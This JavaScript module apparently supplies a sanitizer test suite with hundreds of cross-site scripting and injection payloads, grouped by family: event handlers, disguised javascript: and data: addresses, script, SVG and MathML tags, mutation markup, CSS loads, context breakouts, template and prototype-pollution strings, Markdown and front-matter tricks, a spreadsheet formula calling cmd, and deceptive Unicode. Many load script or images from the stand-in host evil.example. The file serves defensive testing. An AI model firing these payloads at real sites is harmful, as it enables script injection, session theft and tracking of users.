// @ts-check
/**
 * Texts that try to be more than text, by family. Each calls `pwned()` if anything of it runs, and fetches from `EVIL` if anything of
 * it loads. Written for this project from the known families of script injection; add to a family whatever is new to it.
 */

/** A host that no test may ever reach. */
export const EVIL = "https://evil.example";

const CALL = "pwned(1)";

/** Events that fire without a reader's doing, or by the least of it. */
const EVENTS = [
  "onload", "onerror", "onfocus", "onblur", "onclick", "onmouseover", "onpointerenter", "onanimationstart", "onanimationend",
  "ontransitionend", "ontoggle", "onbeforetoggle", "onscroll", "onscrollend", "onwheel", "onresize", "onhashchange", "onpageshow", "onmessage",
  "oncopy", "onpaste", "onbeforecopy", "ondragenter", "onloadstart", "oncanplay", "onplay", "onsubmit", "onformdata", "oninvalid",
  "onbegin", "onend", "onrepeat", "onslotchange", "onselectionchange", "oncontentvisibilityautostatechange", "onsecuritypolicyviolation", "onfocusin",
  "ONERROR", "onError", "onerror\t", "onerror\n", "onerror\f", "/onerror", "on error", "x:onerror", "\u017fonerror", "&#111;nerror",
];

/** Addresses that run or load what they hold, undisguised. */
const RUNNING = [
  `javascript:${CALL}`, `javascript:void ${CALL}`, `javascript://example.org/%0a${CALL}`, `javascript://example.org/\u2028${CALL}`,
  `vbscript:${CALL}`, `livescript:${CALL}`, `mocha:${CALL}`, `jar:${EVIL}!/x.html`, "view-source:javascript:pwned(1)", "feed:javascript:pwned(1)",
  `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`, `data:text/javascript,${CALL}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`, `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${CALL}</script>`,
  `data:,${CALL}`, `blob:${EVIL}/0b2f6bd3`, "blob:null/0b2f6bd3", `filesystem:${EVIL}/temporary/x.html`, "file:///etc/passwd", "about:blank", "about:srcdoc",
  "chrome://settings", "intent://x#Intent;scheme=https;end", "ws://evil.example/", "tel:+1234567", "sms:+1234567", "x-apple.systempreferences:",
];

/** Ways to hide what an address begins with from whoever looks at it as a string. @type {((address: string) => string)[]} */
const DISGUISES = [
  (a) => a.toUpperCase().replace("PWNED", "pwned"),
  (a) => a.replace(/[a-z]/, (letter) => letter.toUpperCase()),
  (a) => ` ${a}`,
  (a) => `\t${a}`,
  (a) => `\n${a}`,
  (a) => `\u0001${a}`,
  (a) => `\u001f${a}`,
  (a) => `\u0000${a}`,
  (a) => `\u00a0${a}`,
  (a) => `\u2028${a}`,
  (a) => `\u3000${a}`,
  (a) => `\ufeff${a}`,
  (a) => `\u200b${a}`,
  (a) => `\u202e${a}`,
  (a) => `\u00ad${a}`,
  (a) => `${a.slice(0, 4)}\t${a.slice(4)}`,
  (a) => `${a.slice(0, 4)}\n${a.slice(4)}`,
  (a) => `${a.slice(0, 4)}\r\n${a.slice(4)}`,
  (a) => `${a.slice(0, 4)}\u0000${a.slice(4)}`,
  (a) => `${a.slice(0, 4)}\u200d${a.slice(4)}`,
  (a) => `${a.slice(0, 4)}\u00ad${a.slice(4)}`,
  (a) => `${a.slice(0, 4)}/**/${a.slice(4)}`,
  (a) => `${a.slice(0, 4)}\\${a.slice(4)}`,
  (a) => [...a].join("\t"),
  (a) => [...a].join("\n"),
  (a) => a.replace(":", " :"),
  (a) => a.replace(":", "\t:"),
  (a) => a.replace(":", "\n:"),
  (a) => a.replace(":", "&colon;"),
  (a) => a.replace(":", "&#58;"),
  (a) => a.replace(":", "&#x3a"),
  (a) => a.replace(":", "%3A"),
  (a) => a.replace(":", "%253A"),
  (a) => a.replace(":", "\\3a "),
  (a) => a.replace(":", "\\u003a"),
  (a) => a.replace(":", "\uff1a"),
  (a) => a.replace(":", "\u2236"),
  (a) => a.replace(/[a-z]/g, (letter) => `&#${letter.charCodeAt(0)};`),
  (a) => a.replace(/[a-z]/g, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`),
  (a) => a.replace(/[a-z]/g, (letter) => `&#0000${letter.charCodeAt(0)}`),
  (a) => a.replace(/[a-z]/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (a) => a.replace(/[a-z]/g, (letter) => String.fromCodePoint(0xfee0 + letter.charCodeAt(0))),
  (a) => a.replace("a", "\u0430"),
  (a) => a.replace("s", "\u017f"),
  (a) => a.replace("i", "\u0131"),
  (a) => a.replace("k", "\u212a"),
  (a) => `https:${a}`,
  (a) => `https://${a}`,
  (a) => `//${a}`,
  (a) => `/\\${a}`,
  (a) => `\\\\${a}`,
  (a) => `#${a}`,
  (a) => `?${a}`,
  (a) => `.${a}`,
  (a) => `'${a}'`,
  (a) => `"${a}"`,
  (a) => `<${a}>`,
  (a) => `(${a})`,
  (a) => `url(${a})`,
  (a) => `0;url=${a}`,
  (a) => `${a} 2x, ${a} 1x`,
  (a) => `mailto:${a}`,
  (a) => `mailto:x@example.org?body=${a}`,
];

/** Names that a page's script may look up and find an element under. */
const CLOBBERED = [
  "attributes", "body", "children", "childNodes", "constructor", "cookie", "currentScript", "defaultView", "document", "documentElement", "firstChild", "forms", "getElementById",
  "getAttribute", "hasOwnProperty", "head", "implementation", "innerHTML", "lastChild", "location", "nodeName", "nodeType", "ownerDocument", "parentNode", "prototype", "__proto__", "querySelector",
  "removeChild", "shadowRoot", "toString", "then", "top", "self", "window", "customElements", "trustedTypes", "DOMParser", "WebAssembly", "change-1", "heading-change-1",
];

/** Elements that run or load by being there. */
const TAGS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script\n>${CALL}</script\n>`, `<script/x>${CALL}</script>`, `<script src="${EVIL}/x.js"></script>`, `<script src=//evil.example/x.js>`,
  `<script type="module">import("${EVIL}/x.js")</script>`, `<script type="importmap">{"imports":{"a":"${EVIL}/x.js"}}</script>`, `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/p"]}]}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<<script>${CALL}//<</script>`, `<script>${CALL}`, `</script><script>${CALL}</script>`, `<script\u0000>${CALL}</script>`, `<\u0000script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}"//`, `<IMG """><SCRIPT>${CALL}</SCRIPT>">`, `<img src="${EVIL}/i.png">`, `<image href="${EVIL}/i.png" onerror=${CALL}>`, `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x">`,
  `<img src=x:x onerror=\u0060${CALL}\u0060>`, `<img/src=x/onerror=${CALL}>`, `<img src lowsrc="${EVIL}/l" dynsrc="${EVIL}/d">`, `<picture><source srcset="${EVIL}/s.png"><img src=x onerror=${CALL}></picture>`,
  `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;">`, `<iframe src="${EVIL}/f">`, `<frameset onload=${CALL}><frame src="${EVIL}/f">`, `<portal src="${EVIL}/p">`, `<fencedframe>`,
  `<object data="javascript:${CALL}">`, `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash">`, `<embed src="javascript:${CALL}">`, `<embed src="${EVIL}/e.svg" type="image/svg+xml">`, `<applet code="X" archive="${EVIL}/x.jar">`,
  `<video src=x onerror=${CALL}></video>`, `<video poster="${EVIL}/p.png" autoplay>`, `<video><source onerror=${CALL} src=x></video>`, `<video><track src="${EVIL}/t.vtt" default></video>`, `<audio src="${EVIL}/a.mp3" autoplay onerror=${CALL}>`, `<bgsound src="${EVIL}/b.mid">`,
  `<body onload=${CALL}>`, `<body background="${EVIL}/bg.png">`, `<input autofocus onfocus=${CALL}>`, `<input type=image src="${EVIL}/i.png" onerror=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`, `<keygen autofocus onfocus=${CALL}>`,
  `<button formaction="javascript:${CALL}">x</button>`, `<form action="javascript:${CALL}"><input type=submit>`, `<form id=x></form><button form=x formaction="javascript:${CALL}">`, `<isindex action="javascript:${CALL}" type=submit>`, `<form action="${EVIL}/f"><button>send`,
  `<details open ontoggle=${CALL}>`, `<dialog open onclose=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`, `<marquee loop=1 width=0 onfinish=${CALL}>`, `<meter onmouseover=${CALL}>0</meter>`, `<div popover id=p onbeforetoggle=${CALL}>`,
  `<a href="javascript:${CALL}">x</a>`, `<a ping="${EVIL}/ping" href="https://example.org/">x</a>`, `<a href=x target="javascript:${CALL}">`, `<area href="javascript:${CALL}">`, `<map name=m><area shape=default href="javascript:${CALL}"></map><img usemap=#m>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`, `<link rel=import href="${EVIL}/x.html">`, `<link rel=preload as=script href="${EVIL}/x.js">`, `<link rel=prefetch href="${EVIL}/x">`, `<link rel=dns-prefetch href="//evil.example">`, `<link rel=icon href="${EVIL}/i.ico">`, `<link rel=manifest href="${EVIL}/m">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv=refresh content="0;url=${EVIL}/">`, `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`, `<meta http-equiv=set-cookie content="a=b">`, `<meta charset="utf-7">+ADw-script+AD4-pwned(1)+ADw-/script+AD4-`,
  `<base href="${EVIL}/">`, `<base href="javascript:/${CALL}//">`, `<xml src="${EVIL}/x.xml" id=x></xml>`, `<table background="javascript:${CALL}"><tr><td background="${EVIL}/t.png">`, `<layer src="${EVIL}/l.js"></layer>`, `<plaintext><script>${CALL}</script>`, `<x onclick=${CALL} contenteditable autofocus tabindex=1 onfocus=${CALL}>x`,
  `<article-versions src="${EVIL}/m.json"></article-versions>`, `<slot onslotchange=${CALL}>`, `<template shadowrootmode=open><script>${CALL}</script></template>`, `<is-land is="article-versions" src="${EVIL}/m.json">`, `<custom-element onclick=${CALL}>`,
];

const SVG = [
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}//`, `<svg><script>${CALL}</script></svg>`, `<svg><script href="${EVIL}/x.js"/></svg>`, `<svg><script xlink:href="data:,${CALL}"/></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CALL}"/><text>x</text></a></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set attributeName=onload to="${CALL}"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>#x"/></svg>`,
  `<svg><image href="${EVIL}/i.png" onerror=${CALL}></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`, `<svg><style>@import "${EVIL}/x.css";</style></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${CALL}</handler></svg>`, `<svg><discard onbegin=${CALL}>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`, `<!DOCTYPE svg [<!ENTITY x "<script>${CALL}</script>">]><svg>&x;</svg>`, `<math href="javascript:${CALL}">x</math>`, `<math><mtext><script>${CALL}</script></mtext></math>`, `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${CALL}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
];

/** Markup that becomes other markup when it is written out and read once more. */
const MUTATION = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<math><mi><table><mi><mglyph><style><!--</style><img title="-->&lt;/mglyph>&lt;img src=1 onerror=${CALL}>">`, `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`, `<title><img title="</title><img src=x onerror=${CALL}>">`, `<textarea><p id="</textarea><img src=x onerror=${CALL}>">`, `<iframe><p title="</iframe><img src=x onerror=${CALL}>">`, `<noembed><p title="</noembed><img src=x onerror=${CALL}>">`, `<noframes><p title="</noframes><img src=x onerror=${CALL}>">`,
  `<style><p title="</style><img src=x onerror=${CALL}>">`, `<template><script>${CALL}</script></template>`, `<template><img src="${EVIL}/t.png" onerror=${CALL}></template>`, `<listing>&lt;img onerror=${CALL} src=x&gt;</listing>`, `<img alt="\u0060\u0060 onerror=${CALL} src=x">`, `<p style="x:'&quot;><img src=x onerror=${CALL}>'">`, `<select><style></select><img src=x onerror=${CALL}></style>`, `<table><td><svg><desc><td><img src=x onerror=${CALL}>`,
  `${"<div>".repeat(520)}<math><mtext><img src=x onerror=${CALL}>`,
  `<b><p><a id="x\u0022><img src=x onerror=${CALL}>">`, `<a href="x"><a href="javascript:${CALL}">`, `<svg><title><a id="</title><img src=x onerror=${CALL}>">`, `<!--><img src=x onerror=${CALL}>-->`, `<!--!><img src=x onerror=${CALL}>-->`, `<!-- --!><img src=x onerror=${CALL}> -->`, `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`, `<?php echo "<script>${CALL}</script>" ?>`, `<% ${CALL} %>`, `</p></div></article></body></html><script>${CALL}</script>`,
];

const STYLE = [
  `<style>@import url("${EVIL}/x.css");</style>`, `<style>body{background:url(${EVIL}/b.png)}</style>`, `<style>*{animation:x;} @keyframes x{}</style><b onanimationstart=${CALL}>x</b>`, `<div style="background:url(${EVIL}/b.png)">x</div>`, `<div style="background:url('javascript:${CALL}')">x</div>`, `<div style="width:expression(${CALL})">x</div>`, `<div style="behavior:url(${EVIL}/x.htc)">`, `<div style="-moz-binding:url(${EVIL}/x.xml#x)">`, `<div style="position:fixed;inset:0;z-index:9">over all</div>`,
  `<div style="list-style-image:url(${EVIL}/l.png)">`, `<div style="content:url(${EVIL}/c.png)">`, `<div style="background-image:image-set('${EVIL}/i.png' 1x)">`, `<div style="b\\61ckground:\\75rl(${EVIL}/b.png)">`, `"; background: url(${EVIL}/q.png); "`, `</style><script>${CALL}</script>`, `}*{background:url(${EVIL}/all.png)}`, `@font-face{font-family:x;src:url(${EVIL}/f.woff)}`, `:host{background:url(${EVIL}/host.png)}`, `var(--x, url(${EVIL}/v.png))`, `\\3c script\\3e ${CALL}`,
];

/** Ways out of the place a text is written to. */
const BREAKOUTS = [
  `"><script>${CALL}</script>`, `'><script>${CALL}</script>`, `" onmouseover="${CALL}" x="`, `' onmouseover='${CALL}' x='`, `\u0060 onmouseover=${CALL} x=\u0060`, `" autofocus onfocus=${CALL} "`, `></a><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</style></script>--><script>${CALL}</script>`, `</script><!--<script>${CALL}</script>`, `<!--<script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`, `*/${CALL}/*`, `');${CALL};//`, `");${CALL};//`, `\\");${CALL};//`, `\u2028${CALL}\u2029`, "${pwned(1)}", "{{pwned(1)}}", "{{constructor.constructor('pwned(1)')()}}", "#{pwned(1)}", "<%= pwned(1) %>", "{% pwned(1) %}", "[[${pwned(1)}]]",
  `","x":"<script>${CALL}</script>`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`, `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`, `__proto__`, `{"__proto__":{"polluted":"yes"}}`, `constructor.prototype.polluted`, `$&$1$\u0060$'`, "%s%n%x%p", `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`, `%3Cscript%3E${CALL}%3C/script%3E`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`, `&amp;lt;script&amp;gt;${CALL}`, `<\u200bscript>${CALL}</script>`, `\u0000<script>${CALL}</script>`, `\u001b]8;;${EVIL}\u0007link\u001b]8;;\u0007`,
];

/** What Markdown, CriticMarkup or front matter would read as signs of their own. */
const MARKDOWN = [
  `[x](javascript:${CALL})`, `[x](<javascript:${CALL}>)`, `[x](JaVaScRiPt:${CALL} "t")`, `[x](data:text/html,<script>${CALL}</script>)`, `[x]: javascript:${CALL}\n\n[x]`, `[x](//evil.example)`, `![x](${EVIL}/i.png)`, `![x](x"onerror="${CALL})`, `![x](${EVIL}/i.png "x" onerror="${CALL}")`, `![${"x".repeat(5)}][r]\n\n[r]: ${EVIL}/r.png`, `<javascript:${CALL}>`, `<https://evil.example/" onclick="${CALL}">`, `<a href="javascript:${CALL}">x</a>`, `**<script>${CALL}</script>**`, "\u0060<script>pwned(1)</script>\u0060", "\u0060\u0060\u0060html\n<script>pwned(1)</script>\n\u0060\u0060\u0060", `~~~\n<script>${CALL}</script>`, `    <script>${CALL}</script>`, `\\<script>${CALL}\\</script>`, `<div markdown="1">[x](javascript:${CALL})</div>`,
  `{++<script>${CALL}</script>++}`, `--}<script>${CALL}</script>{--`, `++}![x](${EVIL}/c.png){++`, `{>>x<<}<img src=x onerror=${CALL}>{>>`, `{~~a~>b~~}`, `{==x==}{>>javascript:${CALL}<<}`, `---\ntitle: "x"\n---\n<script>${CALL}</script>`, `"\nheadline: x\nonload: ${CALL}`, `!!js/function 'function(){${CALL}}'`, `*x: &x [*x]`, `# Heading\n===\n<script>${CALL}</script>`, `| a |\n|---|\n| <script>${CALL}</script> |`, `[^1]: <script>${CALL}</script>`, `$$\\href{javascript:${CALL}}{x}$$`, `\\href{javascript:${CALL}}{x}`, `<details markdown><summary>x</summary>![x](${EVIL}/d.png)</details>`, `!`, `x!`, `=HYPERLINK("${EVIL}")`, `@SUM(1+1)*cmd|' /C calc'!A0`,
];

/** Text that shows other than it is. */
const DECEPTIVE = [
  `\u202egnp.exe\u202c`, `\u2066<script>\u2069${CALL}`, `user\u202e<script>${CALL}</script>`, `\u2067\u2067\u2067\u2067x`, `\u200e\u200f\u061c`, `a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309${"\u0310".repeat(60)}`, `\ud800lone\udfff`, `\ufffe\uffff\ufdd0`, `\u{e0001}\u{e0073}\u{e0063}\u{e0072}tag`, `\u{1f1e6}\u{1f1e7}\u200d\u{1f468}\u200d\u{1f469}`, `\ufffc\ufff9x\ufffay\ufffb`, `\u0085\u2028\u2029`, `\u115f\u1160\u3164\uffa0`, `\u180e\u2800`, `\u2062\u2063\u2064`,
];

/** @type {Record<string, string[]>} */
export const PAYLOADS = {
  tags: TAGS,
  handlers: EVENTS.flatMap((event) => [`<img src=x ${event}=${CALL}>`, `x" ${event}="${CALL}`]),
  addresses: RUNNING,
  disguises: [`javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`, `vbscript:${CALL}`].flatMap((address) => DISGUISES.map((disguise) => disguise(address))),
  svg: SVG,
  mutation: MUTATION,
  style: STYLE,
  breakouts: BREAKOUTS,
  markdown: MARKDOWN,
  names: CLOBBERED.flatMap((name) => [name, `<a id="${name}" name="${name}" href="javascript:${CALL}">x</a>`, `<form name="${name}"><input name="${name}">`]),
  deceptive: DECEPTIVE,
};

/** Always tried: those that once got further than they may, and those that alone lead out of some place. */
const ALWAYS = new Set([
  // An entity in an address, which the saved Markdown gave to whoever reads it as the sign it stands for.
  `data&colon;text/html,<script>${CALL}</script>`,
  // A picture of a story whose host wants none: saving it had the page's policy asked for it.
  `![x](${EVIL}/i.png)`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  // Only this ends the title of a saved page.
  `</title><script>${CALL}</script>`,
]);

/**
 * The payloads of every family.
 * @param {number} [every] takes one of so many, from each family, and those that are always tried
 */
export function payloads(every = 1) {
  return Object.values(PAYLOADS).flatMap((family) => family.filter((payload, index) => index % every === 0 || ALWAYS.has(payload)));
}
